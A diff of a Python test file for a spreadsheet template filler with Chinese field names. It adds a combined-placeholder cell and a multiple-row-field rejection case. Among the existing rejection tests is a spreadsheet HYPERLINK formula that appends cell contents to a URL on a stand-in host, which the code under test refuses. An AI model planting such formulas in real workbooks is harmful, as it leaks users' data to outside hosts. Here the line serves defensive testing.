@@ -46,7 +46,13 @@ def saved(tmp_path: Path, made: openpyxl.Workbook) -> Path:
 
 def test_a_template_is_filled_and_keeps_its_look(tmp_path: Path) -> None:
     made = book(
-        A1="{{标题}}", A2="单位：{{填报单位}}，{{ 填报时间 }}", A4="{{行.序号}}", B4="{{行.姓名或单位}}", C4="{{行.金额（元）}}", A5="合计"
+        A1="{{标题}}",
+        A2="单位：{{填报单位}}，{{ 填报时间 }}",
+        A4="{{行.序号}}",
+        B4="{{行.姓名或单位}}",
+        D4="{{填报单位}}{{行.序号}}",
+        C4="{{行.金额（元）}}",
+        A5="合计",
     )
     sheet = sheet_of(made)
     sheet["C5"] = "{{合计}}"
@@ -60,6 +66,7 @@ def test_a_template_is_filled_and_keeps_its_look(tmp_path: Path) -> None:
     assert [sheet[f"A{n}"].value for n in (1, 2)] == ["汇总名册", "单位：解放村，2023年6月5日"]
     assert [[cell.value for cell in row] for row in sheet["A4:C6"]] == [[1, "=1+1", 500], [2, "李四", 500], [3, "王五", 500]]
     assert (sheet["B4"].data_type, sheet["B4"].quotePrefix, sheet["B6"].font.bold) == ("s", True, True)
+    assert [sheet[f"D{n}"].value for n in (4, 6)] == ["解放村1", "解放村3"]
     assert (sheet["A7"].value, sheet["C7"].value) == ("合计", 1500) and "A7:B7" in map(str, sheet.merged_cells.ranges)
     assert templates.drop(tmp_path, "claim_roster") and templates.of(tmp_path, "claim_roster") is None
     assert not templates.drop(tmp_path, "claim_roster")
@@ -99,6 +106,7 @@ def _hidden() -> openpyxl.Workbook:
         (lambda: book(A1='=HYPERLINK("http://x/?"&A2)'), "公式"),
         (lambda: book(A1="=SUM(B1:B9)"), "公式"),
         (_hidden, "隐藏"),
+        (lambda: book(A1="{{行.姓名或单位}}", A2="{{行.状态}}"), "只能有一行"),
         (lambda: book(A301="x"), "太大"),
         (lambda: book(BZ1="x"), "太大"),
     ],
